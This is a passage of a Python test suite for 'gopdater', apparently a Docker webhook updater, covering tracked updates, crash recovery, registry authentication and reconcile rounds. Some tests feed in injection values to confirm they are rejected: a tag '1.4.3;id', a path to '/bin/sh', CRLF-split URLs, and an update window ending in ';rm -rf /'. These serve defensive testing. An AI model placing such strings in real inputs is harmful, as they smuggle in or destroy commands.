                event, = parse(sample, headers(**{k.replace("-", "_"): v for k, v in hdrs.items()}))
                key = event.image
                root = tempfile.mkdtemp(prefix="gopdater-track-")
                self.addCleanup(shutil.rmtree, root, True)
                raw = f"{key.registry}/{key.repository}:${{SITE_TAG}}"
                fake = FakeDocker(services={"site": f"{key.registry}/{key.repository}:1.4.2"}, root=root)
                fake.track("demo", "site", raw, "SITE_TAG=1.4.2\n", "minor", TRACKED_VERSIONS)
                rig = Rig(self, fake, OWNER=f"{key.registry}/{key.repository.split('/')[0]}")
                for tag, expected in (("2.0.0", HTTPStatus.OK), ("1.4.3", HTTPStatus.ACCEPTED)):
                    body = json.dumps(with_tag_values(sample, key.tag, tag)).encode()
                    message = headers(Content_Length=str(len(body)), Content_Type="application/json")
                    for header, value in hdrs.items():
                        message[header] = value
                    if parse in (gopdater.parse_ghcr, gopdater.parse_gitea):
                        message["X-Hub-Signature-256"], message["X-Gitea-Signature"] = signed(body), signed(body)[7:]
                    status, reply, _ = rig.app.handle("POST", path, message, body)
                    self.assertEqual(status, expected, reply)
                self.assertEqual(reply["services"], ["demo/site"])
                self.assertEqual(rig.queue.views()[0]["tag"], "1.4.3")


class TrackedRecoveryTest(unittest.TestCase):
    """A crash mid-update of a tracked service leaves the running image and the .env agreeing."""

    def rig(self, **labels):
        rig = TrackedComposeTest.rig(self, **{k: v for k, v in labels.items() if k != "file_labels"})
        rig.fake.file_labels[("demo", "site")].update(labels.get("file_labels", {}))
        return Rig(self, rig.fake, STATE_DIR=rig.state_dir)

    env = TrackedComposeTest.env
    running = TrackedComposeTest.running

    def test_the_journal_records_both_tags_and_the_env_file(self):
        """Cut off after the stop: journal.json names the old and new tag, the variable and the file."""
        rig = self.rig()
        rig.queue.submit(gopdater.PushEvent("dockerhub", ImageKey("docker.io", "acme/site", "1.4.3")))
        cut(self, rig, ("docker", "stop"))
        with open(os.path.join(rig.state_dir, "journal.json")) as handle:
            record, = json.load(handle)["updates"].values()
        self.assertEqual({k: record[k] for k in ("stage", "old_tag", "new_tag", "variable", "env_file", "image")},
                         {"stage": "stop", "old_tag": "1.4.2", "new_tag": "1.4.3", "variable": "SITE_TAG",
                          "env_file": os.path.join(rig.fake.root, "demo", ".env"), "image": "acme/site:1.4.2"})

    def test_cut_off_after_the_stop_it_comes_up_on_the_new_tag(self):
        """Recovery brings the service up on 1.4.3 (tagging the new image as 1.4.3, never as 1.4.2)."""
        rig = self.rig()
        rig.queue.submit(gopdater.PushEvent("dockerhub", ImageKey("docker.io", "acme/site", "1.4.3")))
        cut(self, rig, ("docker", "stop"))
        queue = restart(self, rig)
        self.assertEqual(queue.views()[0]["state"], "recovered")
        self.assertEqual(self.env(rig), "# tags\nSITE_TAG=1.4.3\n")
        self.assertEqual(self.running(rig), ["acme/site:1.4.3"])
        self.assertEqual(rig.fake.images["acme/site:1.4.2"], OLD_ID)

    def test_cut_off_in_a_release_step_after_the_write_the_file_says_the_old_tag_again(self):
        """Killed in pre-update (the .env already says 1.4.3, the old container still serves): recovery leaves
        the service and writes 1.4.2 back."""
        rig = self.rig(file_labels={"gopdater.pre-update": "true"})
        rig.queue.submit(gopdater.PushEvent("dockerhub", ImageKey("docker.io", "acme/site", "1.4.3")))
        cut(self, rig, ("docker", "exec"))
        self.assertEqual(self.env(rig), "# tags\nSITE_TAG=1.4.3\n", "the cut came after the write")
        queue = restart(self, rig)
        self.assertEqual(queue.views()[0]["state"], "recovered")
        self.assertEqual(self.env(rig), "# tags\nSITE_TAG=1.4.2\n")
        self.assertEqual(self.running(rig), ["acme/site:1.4.2"])

    def test_a_journal_naming_another_file_gets_nothing_written(self):
        """A record whose env_file is not the project's (a tampered journal) is refused: that file is untouched."""
        rig = self.rig()
        rig.queue.submit(gopdater.PushEvent("dockerhub", ImageKey("docker.io", "acme/site", "1.4.3")))
        cut(self, rig, ("docker", "stop"))
        victim = os.path.join(rig.fake.root, "victim.conf")
        with open(victim, "w") as handle:
            handle.write("SITE_TAG=keep\n")
        path = os.path.join(rig.state_dir, "journal.json")
        with open(path) as handle:
            stored = json.load(handle)
        for record in stored["updates"].values():
            record["env_file"] = victim
        gopdater.write_atomically(path, stored)
        queue = restart(self, rig)
        self.assertEqual(queue.views()[0]["state"], "failed")
        self.assertIn("not an env file of the project", queue.views()[0]["error"])
        self.assertEqual(pathlib.Path(victim).read_text(), "SITE_TAG=keep\n")

    def test_record_fields_of_version_channels_are_validated(self):
        """A record whose tags, variable or env file are not what gopdater writes is not acted on."""
        base = gopdater.Record("compose", "demo", "site", "0" * 12, "docker.io/acme/site:1.4.3", "replace",
                               gopdater.Stage.STOP, "t", part=gopdater.ComposePart())
        self.assertIsNone(gopdater.record_problem(base._replace(old_tag="1.4.2", new_tag="1.4.3", part=gopdater.ComposePart(
            variable="SITE_TAG", env_file="/srv/demo/.env"))))
        for field, value in [("old_tag", "-x"), ("new_tag", "1.4.3;id")]:
            with self.subTest(field=field, value=value):
                self.assertIsNotNone(gopdater.record_problem(base._replace(**{field: value})))
        for field, value in [("variable", "SITE TAG"), ("env_file", "relative/.env"), ("env_file", "/srv/.env\nX=1"),
                             ("variable", "--x")]:
            with self.subTest(field=field, value=value):
                self.assertIsNotNone(gopdater.record_problem(base._replace(part=gopdater.ComposePart(**{field: value}))))


REGISTRY_HEADERS = {"Authorization": f"Bearer {SECRET}",
                    "Content_Type": "application/vnd.docker.distribution.events.v1+json"}


def distribution_push(tag, host="127.0.0.1:5000"):
    """The sample Distribution notification, for acme/site:<tag> on host."""
    body = payload("distribution-events.json")
    body["events"][0]["target"]["tag"], body["events"][0]["request"]["host"] = tag, host
    return body


class TrackedSwarmTest(unittest.TestCase):
    def test_a_swarm_service_tracking_patch_takes_a_newer_patch_by_its_tag(self):
        """gopdater.track=patch on the service spec: 1.4.3 runs `service update --image <repo>:1.4.3`; 1.5.0 is
        ignored with the reason; the view shows both tags."""
        fake = FakeSwarm()
        fake.service["Spec"]["Labels"]["gopdater.track"] = "patch"
        fake.service["Spec"]["TaskTemplate"]["ContainerSpec"]["Image"] = f"127.0.0.1:5000/acme/site:1.4.2@{DIGEST_1}"
        fake.resolves = {"127.0.0.1:5000/acme/site:1.4.3": DIGEST_2}
        rig = SwarmTest.rig(self, fake)
        self.assertEqual(rig.post("/hooks/registry", distribution_push("1.5.0"), **REGISTRY_HEADERS)[:2],
                         (200, {"status": "ignored", "reason": "blog/blog_site: 1.5.0 is outside its patch channel "
                                                               "from 1.4.2"}))
        with self.assertLogs("gopdater", "INFO"):
            status, reply, _ = rig.post("/hooks/registry", distribution_push("1.4.3"), **REGISTRY_HEADERS)
            self.assertEqual(status, 202, reply)
            rig.start_worker()
            self.assertTrue(rig.queue.wait_idle(10))
        view = rig.queue.views()[0]
        self.assertEqual((view["state"], view["old_tag"], view["new_tag"]), ("updated", "1.4.2", "1.4.3"))
        self.assertEqual([c for c in rig.fake.calls if c[1:3] == ["service", "update"]],
                         [["docker", "service", "update", "--detach", "--image", "127.0.0.1:5000/acme/site:1.4.3",
                           "--with-registry-auth", "blog_site"]])
        code, out = check(self, fake, OWNER="127.0.0.1:5000/acme")
        self.assertIn("ok   service blog/blog_site: follows patch releases", out)


# ---------------------------------------------------------------------------------------------
# Reconciling: the registry asked what a tag names now
# ---------------------------------------------------------------------------------------------

DIGEST_A, DIGEST_B = "sha256:" + "a" * 64, "sha256:" + "b" * 64


class RegistryStandIn:
    """A registry on 127.0.0.1 answering by route(method, path, headers) -> (status, headers, body); a body may
    be a generator (streamed until the client goes). It records every request: (method, path, headers)."""

    def __init__(self, test, route):
        self.requests = []
        standin = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def answer(self):
                standin.requests.append((self.command, self.path, dict(self.headers)))
                status, extra, body = route(self.command, self.path, self.headers)
                self.send_response(status)
                for name, value in extra:
                    self.send_header(name, value)
                if isinstance(body, bytes):
                    self.send_header("Content-Length", str(len(body)))
                    self.end_headers()
                    if self.command != "HEAD":
                        self.wfile.write(body)
                    return
                self.end_headers()
                with contextlib.suppress(OSError):
                    for chunk in body:
                        self.wfile.write(chunk)

            do_GET = do_HEAD = answer

            def log_message(self, *args):
                pass
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        test.addCleanup(server.server_close)
        test.addCleanup(server.shutdown)
        self.port = server.server_address[1]
        self.registry, self.base = f"127.0.0.1:{self.port}", f"http://127.0.0.1:{self.port}"


def manifest_route(digest=DIGEST_A, path="/v2/acme/site/manifests/latest"):
    """A route that names digest for one manifest and answers 404 for anything else."""
    def route(method, asked, headers):
        if method == "HEAD" and asked == path:
            return 200, [("Docker-Content-Digest", digest)], b""
        return 404, [], b'{"errors": [{"code": "MANIFEST_UNKNOWN"}]}'
    return route


class RegistryClientTest(unittest.TestCase):
    """RegistryClient and registry_login against a registry stand-in on 127.0.0.1."""

    def key(self, standin, tag="latest"):
        return ImageKey(standin.registry, "acme/site", tag)

    def test_an_anonymous_registry_names_a_tags_digest_by_a_head(self):
        """HEAD of the manifest with the Accept types of indexes and manifests; the digest it names."""
        standin = RegistryStandIn(self, manifest_route())
        self.assertEqual(gopdater.RegistryClient(standin.base, None).digest(self.key(standin)), DIGEST_A)
        (method, path, head), = standin.requests
        self.assertEqual((method, path, head["Accept"]), ("HEAD", "/v2/acme/site/manifests/latest",
                                                          gopdater.MANIFEST_ACCEPT))
        self.assertNotIn("Authorization", head)

    def test_a_bearer_challenge_gets_a_token_from_its_realm_with_the_login(self):
        """A 401 naming a realm, service and scope: the token asked there with the login as Basic, then the HEAD
        again with the token."""
        def route(method, path, headers):
            if path.startswith("/token?"):
                ok = headers.get("Authorization") == "Basic " + base64.b64encode(b"ci:pw").decode()
                return (200, [], b'{"token": "t0k"}') if ok else (401, [], b"")
            if headers.get("Authorization") == "Bearer t0k":
                return 200, [("Docker-Content-Digest", DIGEST_A)], b""
            return 401, [("WWW-Authenticate", f'Bearer realm="http://127.0.0.1:{standin.port}/token",'
                                              'service="reg",scope="repository:acme/site:pull"')], b""
        standin = RegistryStandIn(self, route)
        self.assertEqual(gopdater.RegistryClient(standin.base, ("ci", "pw")).digest(self.key(standin)), DIGEST_A)
        self.assertEqual([path for _, path, _ in standin.requests], [
            "/v2/acme/site/manifests/latest", "/token?service=reg&scope=repository%3Aacme%2Fsite%3Apull",
            "/v2/acme/site/manifests/latest"])

    def docker_config(self, stored):
        folder = state_folder(self)
        pathlib.Path(folder, "config.json").write_text(json.dumps(stored))
        return folder

    def test_a_basic_challenge_is_answered_with_the_login_of_the_docker_config(self):
        """auths in DOCKER_CONFIG's config.json: the login for that registry, sent as Basic after a 401."""
        def route(method, path, headers):
            if headers.get("Authorization") == "Basic " + base64.b64encode(b"ci:pw").decode():
                return 200, [("Docker-Content-Digest", DIGEST_A)], b""
            return 401, [("WWW-Authenticate", 'Basic realm="registry"')], b""
        standin = RegistryStandIn(self, route)
        folder = self.docker_config({"auths": {standin.registry: {"auth": base64.b64encode(b"ci:pw").decode()}}})
        login = gopdater.registry_login(standin.registry, make_config(DOCKER_CONFIG=folder), gopdater.run_command)
        self.assertEqual(login, ("ci", "pw"))
        self.assertEqual(gopdater.RegistryClient(standin.base, login).digest(self.key(standin)), DIGEST_A)
        self.assertIsNone(gopdater.registry_login("other.example:5000", make_config(DOCKER_CONFIG=folder),
                                                  gopdater.run_command))

    def test_a_credential_helper_is_asked_for_the_login(self):
        """credsStore (or credHelpers for the registry): `docker-credential-<name> get` with the server on its
        stdin; its Username and Secret; a helper that has none means anonymous."""
        bin_dir = state_folder(self)
        asked = pathlib.Path(bin_dir, "asked")
        for name, answer in (("stub", '{"Username": "helper", "Secret": "s3"}'), ("none", None)):
            script = pathlib.Path(bin_dir, f"docker-credential-{name}")
            body = (f"print({answer!r})" if answer else "sys.exit('credentials not found in native keychain')")
            script.write_text(f"#!{sys.executable}\nimport sys\nopen({str(asked)!r}, 'a').write(sys.stdin.read())\n"
                              f"{body}\n")
            script.chmod(0o755)
        path = f"{bin_dir}{os.pathsep}{os.environ['PATH']}"
        for stored, expected in (({"credsStore": "stub"}, ("helper", "s3")),
                                 ({"credsStore": "none", "credHelpers": {"127.0.0.1:5000": "stub"}}, ("helper", "s3")),
                                 ({"credsStore": "none"}, None), ({"credsStore": "../../bin/sh"}, None)):
            with self.subTest(stored=stored):
                config = make_config(DOCKER_CONFIG=self.docker_config(stored), PATH=path)
                with self.assertLogs("gopdater", "DEBUG") if "sh" not in stored["credsStore"] else \
                        contextlib.nullcontext():  # a helper name that is a path runs nothing, logs nothing
                    self.assertEqual(gopdater.registry_login("127.0.0.1:5000", config, gopdater.run_command),
                                     expected)
        self.assertEqual(asked.read_text(), "127.0.0.1:5000\n" * 3)

    def test_refusals_are_errors_that_change_nothing(self):
        """401 with no challenge it can answer, 404, 500, a redirect (not followed), 429 (when to ask again)."""
        cases = [("401 without a login", 401, [("WWW-Authenticate", 'Basic realm="r"')], "401 Unauthorized"),
                 ("404", 404, [], "answered 404"), ("500", 500, [], "answered 500"),
                 ("a redirect", 307, [("Location", "http://localhost:1/x")], "a redirect is not followed"),
                 ("429 with Retry-After", 429, [("Retry-After", "30")], "asked again in 30s"),
                 ("429 without", 429, [], "asked again in 60s")]
        for name, status, extra, said in cases:
            with self.subTest(name):
                standin = RegistryStandIn(self, lambda method, path, headers: (status, extra, b""))
                with self.assertRaises(gopdater.RegistryError) as caught:
                    gopdater.RegistryClient(standin.base, None).digest(self.key(standin))
                self.assertIn(said, str(caught.exception))

    def test_no_redirect_carries_credentials_to_another_host(self):
        """The manifest, or the token realm, redirecting to another host (localhost, not 127.0.0.1): an error, and
        that host is never asked, so the login goes nowhere."""
        elsewhere = RegistryStandIn(self, manifest_route())
        away = [("Location", f"http://localhost:{elsewhere.port}/v2/acme/site/manifests/latest")]
        for name, route in (
                ("the manifest", lambda method, path, headers: (307, away, b"")),
                ("the token realm", lambda method, path, headers: (302, away, b"") if path.startswith("/token") else (
                    401, [("WWW-Authenticate", f'Bearer realm="{standin.base}/token",service="reg"')], b""))):
            with self.subTest(name):
                standin = RegistryStandIn(self, route)
                with self.assertRaises(gopdater.RegistryError):
                    gopdater.RegistryClient(standin.base, ("ci", "pw")).digest(self.key(standin))
        self.assertEqual(elsewhere.requests, [])

    def test_a_slow_registry_is_cut_at_its_deadline(self):
        """A registry that answers in 30 s: the request ends at its deadline with an error."""
        def route(method, path, headers):
            time.sleep(30)
            return 200, [], b""
        standin = RegistryStandIn(self, route)
        started = time.monotonic()
        with self.assertRaises(gopdater.RegistryError) as caught:
            gopdater.registry_call(f"{standin.base}/v2/", {}, time.monotonic() + 0.5)
        self.assertLess(time.monotonic() - started, 3)
        self.assertIn("no answer within", str(caught.exception))

    def test_a_huge_or_endless_answer_is_bounded(self):
        """A tag list said to be 100 MB, or streamed chunk after chunk for ever: an error past 1 MiB, not memory."""
        def endless():
            while True:
                yield b"10000\r\n" + b"x" * 0x10000 + b"\r\n"
        for name, extra, body in (("100 MB", [("Content-Length", str(100_000_000))], iter(())),
                                  ("endless chunks", [("Transfer-Encoding", "chunked")], endless())):
            with self.subTest(name):
                standin = RegistryStandIn(self, lambda method, path, headers: (200, extra, body))
                with self.assertRaises(gopdater.RegistryError) as caught:
                    gopdater.RegistryClient(standin.base, None).tags("acme/site")
                self.assertIn("over 1 MiB", str(caught.exception))

    def test_a_url_a_registry_names_cannot_split_the_request_line(self):
        """A next page or a token realm with a space or a line break in it: an error, nothing sent."""
        for url in ("http://127.0.0.1:1/v2/x?a b", "http://127.0.0.1:1/v2/x\r\nX-Injected: 1", "http://127.0.0.1:1/\x00"):
            with self.subTest(url=url), self.assertRaises(gopdater.RegistryError) as caught:
                gopdater.registry_call(url, {}, time.monotonic() + 5)
            self.assertIn("spaces or control characters", str(caught.exception))

    def test_tags_follow_the_link_pagination(self):
        """tags/list, then each Link rel="next" on the same registry, until none."""
        pages = {"/v2/acme/site/tags/list?n=1000": (["1.0.0", "1.0.1"], "/v2/acme/site/tags/list?n=1000&last=1.0.1"),
                 "/v2/acme/site/tags/list?n=1000&last=1.0.1": (["1.1.0", "bad tag!"], None)}

        def route(method, path, headers):
            tags, following = pages[path]
            link = [("Link", f'<{following}>; rel="next"')] if following else []
            return 200, link, json.dumps({"name": "acme/site", "tags": tags}).encode()
        standin = RegistryStandIn(self, route)
        self.assertEqual(gopdater.RegistryClient(standin.base, None).tags("acme/site"), ["1.0.0", "1.0.1", "1.1.0"])

    def test_docker_itself_decides_which_registries_speak_plain_http(self):
        """insecure_registries: this host, docker info's insecure CIDRs and IndexConfigs; else HTTPS. Pure."""
        # Documentation addresses (RFC 5737): nothing is asked of them, the function only reads the table.
        plain = gopdater.insecure_registries({"InsecureRegistryCIDRs": ["127.0.0.0/8", "198.51.100.0/24"],
                                              "IndexConfigs": {"registry.lan:5000": {"Secure": False},
                                                               "docker.io": {"Secure": True}}})
        for registry, expected in (("127.0.0.1:5000", True), ("localhost:5000", True), ("198.51.100.7:5000", True),
                                   ("registry.lan:5000", True), ("docker.io", False), ("ghcr.io", False),
                                   ("203.0.113.1", False)):
            with self.subTest(registry=registry):
                self.assertEqual(plain(registry), expected)


class FakeRegistry:
    """What a Reconciler's client answers, for the round tests: digests and tags by key; records each question."""

    def __init__(self, digests=None, tags=None, error=None):
        self.digests, self.tag_lists, self.error, self.asked = digests or {}, tags or {}, error, []

    def __call__(self, registry):
        return self

    def digest(self, key):
        self.asked.append(("digest", str(key)))
        if self.error:
            raise self.error
        return self.digests[str(key)]

    def tags(self, repository):
        self.asked.append(("tags", repository))
        if self.error:
            raise self.error
        return self.tag_lists[repository]


class ReconcileRoundTest(unittest.TestCase):
    """A round over the fake engine: one question per tag, verdicts, what is queued and what is not."""

    def rig(self, registry, **env):
        fake = FakeDocker(services={"site": "acme/site:latest", "worker": "acme/site:latest"})
        fake.repo_digests[OLD_ID] = [f"acme/site@{DIGEST_A}", f"127.0.0.1:5000/other/site@{DIGEST_B}"]
        rig = Rig(self, fake, **env)
        reconciler = gopdater.Reconciler(rig.config, rig.queue, runner=fake, client=registry)
        rig.app.reconciler = reconciler
        return rig, reconciler

    def round(self, reconciler):
        with self.assertLogs("gopdater", "INFO") as logs:
            report = reconciler.round()
        return report, logs.output

    def test_a_service_behind_is_queued_as_a_push_would_queue_it(self):
        """The registry names another digest: one question for the two services on the tag, both queued (one
        deployment of the project) with trigger reconcile and the digest, then updated as a push updates them."""
        registry = FakeRegistry({"docker.io/acme/site:latest": DIGEST_B})
        rig, reconciler = self.rig(registry, NOTIFY_URL="https://ntfy.sh/ops")
        report, _ = self.round(reconciler)
        self.assertEqual(registry.asked, [("digest", "docker.io/acme/site:latest")])
        self.assertEqual((report.asked, report.behind, report.rounds), (2, ("demo/site", "demo/worker"), 1))
        (view,) = rig.queue.views()
        self.assertEqual((view["sender"], view["trigger"], view["digest"], [m["service"] for m in view["services"]]),
                         ("reconcile", "reconcile", DIGEST_B, ["site", "worker"]))
        with self.assertLogs("gopdater", "INFO"):  # the worker starts inside: a busy machine may run it at once
            rig.start_worker()
            self.assertTrue(rig.queue.wait_idle(10))
        self.assertEqual({v["state"] for v in rig.queue.views()}, {"updated"})
        self.assertEqual([(body["services"], body["trigger"]) for _, body in rig.notices],
                         [(["site", "worker"], "reconcile")], "one notification for the deployment of both")

    def test_a_service_on_what_the_registry_names_records_nothing(self):
        """The registry names the digest the running image was pulled as: nothing queued, over several rounds."""
        rig, reconciler = self.rig(FakeRegistry({"docker.io/acme/site:latest": DIGEST_A}))
        for _ in range(3):
            report, _ = self.round(reconciler)
        self.assertEqual((report.behind, report.rounds, rig.queue.views()), ((), 3, []))

    def test_a_digest_that_failed_here_before_is_not_tried_again_but_a_new_one_is(self):
        """A deployment of that digest ended rolled back: not queued again; the registry moving on is."""
        registry = FakeRegistry({"docker.io/acme/site:latest": DIGEST_B})
        rig, reconciler = self.rig(registry)
        rig.fake.registry["acme/site:latest"] = BROKEN_ID
        self.round(reconciler)
        rig.start_worker()
        with self.assertLogs("gopdater", "INFO"):
            self.assertTrue(rig.queue.wait_idle(10))
        self.assertEqual({v["state"] for v in rig.queue.views()}, {"rolled-back"})
        report, _ = self.round(reconciler)
        self.assertEqual((report.behind, len(rig.queue.views())), ((), 1))
        registry.digests["docker.io/acme/site:latest"] = "sha256:" + "c" * 64
        report, _ = self.round(reconciler)
        self.assertEqual(len(report.behind), 2)

    def test_a_service_with_a_deployment_queued_is_left_to_it(self):
        """A push queued for the service: the round does not ask for it; --check says what each service asks."""
        registry = FakeRegistry({"docker.io/acme/site:latest": DIGEST_B})
        rig, reconciler = self.rig(registry)
        rig.queue.submit(gopdater.PushEvent("dockerhub", ImageKey("docker.io", "acme/site", "latest")))
        self.assertEqual({item.why for item in reconciler.plan()}, {"a deployment of it is queued or running"})
        report, _ = self.round(reconciler)
        self.assertEqual((registry.asked, report.asked), ([], 0))
        code, out = check(self, rig.fake)
        self.assertIn("ok   reconcile: service demo/site: asks the registry for docker.io/acme/site:latest every "
                      "3600s, after start-up and on POST /reconcile", out)

    def test_a_failing_registry_is_logged_once_a_round_and_a_429_is_honoured(self):
        """A registry error: one log line for the round (not per service), in the report, nothing queued; a 429:
        not asked again before its Retry-After."""
        registry = FakeRegistry(error=gopdater.RegistryError("cannot be reached (ConnectionRefusedError)"))
        rig, reconciler = self.rig(registry)
        report, logs = self.round(reconciler)
        self.assertEqual((report.errors, rig.queue.views()), ({"docker.io": "cannot be reached "
                                                                             "(ConnectionRefusedError)"}, []))
        self.assertEqual(sum("docker.io failed" in line for line in logs), 1)
        registry.error = gopdater.TooSoon(30)
        self.round(reconciler)
        asked = len(registry.asked)
        report, _ = self.round(reconciler)
        self.assertEqual(len(registry.asked), asked, "not asked again within Retry-After")
        self.assertIn("429", report.errors["docker.io"])

    def test_post_reconcile_asks_now_and_says_what_it_asks(self):
        """Bearer, checked from the head: 202 with the tags; a wrong token 403 and no round; GET 405; /status and
        /metrics show the last round."""
        rig, reconciler = self.rig(FakeRegistry({"docker.io/acme/site:latest": DIGEST_A}))
        status, reply, _ = rig.post("/reconcile", b"", Authorization="Bearer wrong")
        self.assertEqual((status, reconciler.wanted.is_set()), (HTTPStatus.FORBIDDEN, False))
        self.assertEqual(rig.app.begin("POST", "/reconcile", headers(Authorization="Bearer wrong",
                                                                     Content_Length="5")).refused.status, 403)
        status, reply, _ = rig.post("/reconcile", b"", Authorization=f"Bearer {SECRET}")
        self.assertEqual((status, reply), (HTTPStatus.ACCEPTED, {"status": "accepted",
                                                                 "asks": ["docker.io/acme/site:latest"]}))
        self.assertTrue(reconciler.wanted.is_set())
        self.assertEqual(rig.app.handle("GET", "/reconcile", headers(), b"").status, HTTPStatus.METHOD_NOT_ALLOWED)
        self.round(reconciler)
        page = rig.app.handle("GET", "/status", headers(Authorization=f"Bearer {SECRET}"), b"").payload
        self.assertIn("The registry was last asked at", page)
        self.assertIn(": 2 services, 0 behind.", page)
        metrics = rig.app.handle("GET", "/metrics", headers(Authorization=f"Bearer {SECRET}"), b"").payload
        self.assertIn("gopdater_reconcile_rounds_total 1\n", metrics)
        self.assertIn('gopdater_reconcile_services{found="asked"} 2\n', metrics)

    def test_each_registry_is_asked_its_own_questions_side_by_side(self):
        """Services on two registries: each registry asked once for its own tag (a thread each, at most 4), one
        behind, the other's failure reported for it alone."""
        fake = FakeDocker(services={"site": "acme/site:latest", "api": "ghcr.io/acme/api:1"})
        fake.repo_digests[OLD_ID] = [f"acme/site@{DIGEST_A}", f"ghcr.io/acme/api@{DIGEST_A}"]
        rig = Rig(self, fake, OWNER="acme,ghcr.io/acme")
        asked = collections.defaultdict(list)

        class Client(FakeRegistry):
            def __init__(self, registry):
                super().__init__({"docker.io/acme/site:latest": DIGEST_B}, error=gopdater.RegistryError(
                    "answered 500") if registry == "ghcr.io" else None)
                self.asked = asked[registry]
        reconciler = gopdater.Reconciler(rig.config, rig.queue, runner=fake, client=Client)
        report, _ = self.round(reconciler)
        self.assertEqual(dict(asked), {"docker.io": [("digest", "docker.io/acme/site:latest")],
                                       "ghcr.io": [("digest", "ghcr.io/acme/api:1")]})
        self.assertEqual((report.behind, report.errors), (("demo/site",), {"ghcr.io": "answered 500"}))

    def test_a_tracked_service_takes_the_newest_tag_of_its_channel(self):
        """gopdater.track minor on 1.4.2: the tags listed; 1.5.0 queued (not 2.0.0, 1.3.9 or a pre-release)."""
        root = tempfile.mkdtemp(prefix="gopdater-track-")
        self.addCleanup(shutil.rmtree, root, True)
        fake = FakeDocker(services={"site": "acme/site:1.4.2"}, root=root)
        fake.track("demo", "site", SITE_RAW, "SITE_TAG=1.4.2\n", "minor", TRACKED_VERSIONS)
        rig = Rig(self, fake)
        registry = FakeRegistry(tags={"acme/site": ["1.3.9", "1.4.2", "1.4.3", "1.5.0", "1.6.0-rc.1", "2.0.0"]})
        reconciler = gopdater.Reconciler(rig.config, rig.queue, runner=fake, client=registry)
        report, _ = self.round(reconciler)
        self.assertEqual((registry.asked, report.behind), ([("tags", "acme/site")], ("demo/site",)))
        self.assertEqual([(v["tag"], v["trigger"]) for v in rig.queue.views()], [("1.5.0", "reconcile")])


if __name__ == "__main__":
    unittest.main()


# ---------------------------------------------------------------------------------------------
# The operator's hand: hold, update now, roll back, update windows, approval, and the page's forms
# ---------------------------------------------------------------------------------------------

BASIC = "Basic " + base64.b64encode(f"ops:{SECRET}".encode()).decode()
BEARER = f"Bearer {SECRET}"
FORM = "application/x-www-form-urlencoded"


def act(rig, path, body=b"", auth=BEARER, **hdrs):
    """POST an operator's action with the Bearer token (or other credentials); (status, payload, headers)."""
    return rig.post(path, body, Authorization=auth, **hdrs)


def form_post(rig, action, target, token=None, fields=None, **hdrs):
    """POST an action as the status page's form does: Basic credentials, its token, same origin."""
    token = gopdater.form_token(SECRET.encode(), action, target, int(rig.app.clock())) if token is None else token
    body = urllib.parse.urlencode({"token": token, **(fields or {})}).encode()
    hdrs = {"Content_Type": FORM, "Host": "deploy.example", "Origin": "https://deploy.example", **hdrs}
    return rig.post(gopdater.action_path(action, target), body, Authorization=BASIC, **hdrs)


class UpdateWindowTest(unittest.TestCase):
    """UPDATE_WINDOW and gopdater.window: parsed, and judged against a local time, across midnight and weekdays."""

    MON, SAT = datetime.datetime(2026, 12, 7), datetime.datetime(2026, 12, 12)  # a Monday and a Saturday

    def test_a_window_is_open_on_its_days_and_hours_only(self):
        """Each (window, local time): open or not, and when it opens next."""
        at = lambda day, hour, minute=0: day + datetime.timedelta(hours=hour, minutes=minute)  # noqa: E731
        cases = [
            ("Mon-Fri 02:00-05:00", at(self.MON, 3), True, at(self.MON, 3)),
            ("Mon-Fri 02:00-05:00", at(self.MON, 5), False, at(self.MON, 26)),  # Tuesday 02:00
            ("Mon-Fri 02:00-05:00", at(self.SAT, 3), False, at(self.SAT, 50)),  # the next Monday 02:00
            ("Mon-Fri 02:00-05:00,Sat-Sun 00:00-24:00", at(self.SAT, 13), True, at(self.SAT, 13)),
            ("Fri 22:00-02:00", at(self.SAT, 1, 59), True, at(self.SAT, 1, 59)),  # Friday's, past midnight
            ("Fri 22:00-02:00", at(self.SAT, 2), False, at(self.SAT, 6 * 24 + 22)),
            ("Sat-Mon 23:00-01:00", at(self.MON, 0, 30), True, at(self.MON, 0, 30)),  # Sunday's, into Monday
            ("Sat-Mon 23:00-01:00", at(self.MON, 23, 30), True, at(self.MON, 23, 30)),
            ("Sat-Mon 23:00-01:00", at(self.MON, 12), False, at(self.MON, 23)),
            ("03:00-04:00", at(self.SAT, 4), False, at(self.SAT, 27)),  # every day
        ]
        for text, when, is_open, opens in cases:
            with self.subTest(window=text, at=when):
                window = gopdater.parse_window(text)
                self.assertEqual(gopdater.window_open(window, when), is_open)
                self.assertEqual(gopdater.next_opening(window, when), opens)

    def test_a_bad_update_window_stops_start_up_with_exit_2_and_one_line(self):
        """Each bad UPDATE_WINDOW: exit 2, one line on stderr naming the setting and an example."""
        for text in ("Mon-Fri", "Mon 2:00-5:00", "Mon 05:00-05:00", "Funday 01:00-02:00", "Mon 25:00-26:00",
                     "Mon 01:00-24:30", "Mon 01:60-02:00", "Mon 01:00-02:00,,", "Mon-Fri 02:00-05:00;rm -rf /"):
            with self.subTest(window=text):
                with self.assertRaises(gopdater.ConfigError):
                    make_config(UPDATE_WINDOW=text)
                err = io.StringIO()
                env = {"OWNER": "acme", "WEBHOOK_SECRET": SECRET, "UPDATE_WINDOW": text}
                with mock.patch.dict(os.environ, env, clear=True), contextlib.redirect_stderr(err):
                    self.assertEqual(gopdater.main([]), 2)
                self.assertEqual(len(err.getvalue().strip().splitlines()), 1, err.getvalue())
                self.assertIn("UPDATE_WINDOW", err.getvalue())

    def test_check_names_what_each_service_waits_for_and_fails_an_invalid_label(self):
        """--check: a line per gated service (its window's next opening, approval); an invalid gopdater.window
        label is a FAIL line and exit 1."""
        fake = FakeDocker(services={"site": "acme/site:latest", "web": "acme/site:latest"})
        fake.file_labels[("demo", "web")] = {"gopdater.window": "weekends"}
        code, out = check(self, fake, UPDATE_WINDOW="Mon-Fri 02:00-05:00", APPROVE=1)
        self.assertEqual(code, 1, out)
        self.assertRegex(out, r"ok   service demo/site: a deployment waits for its update window \((Mon|Tue|Wed|Thu"
                              r"|Fri) 02:00 next\) and an operator's approval\n")
        self.assertIn("FAIL service demo/web: its gopdater.window label is invalid ('weekends' is not DAYS "
                      "HH:MM-HH:MM): it never opens; fix the label", out)

    def test_public_url_and_approve_timeout_are_checked_at_start(self):
        """PUBLIC_URL must be an http(s) address without credentials; APPROVE_TIMEOUT a number of seconds."""
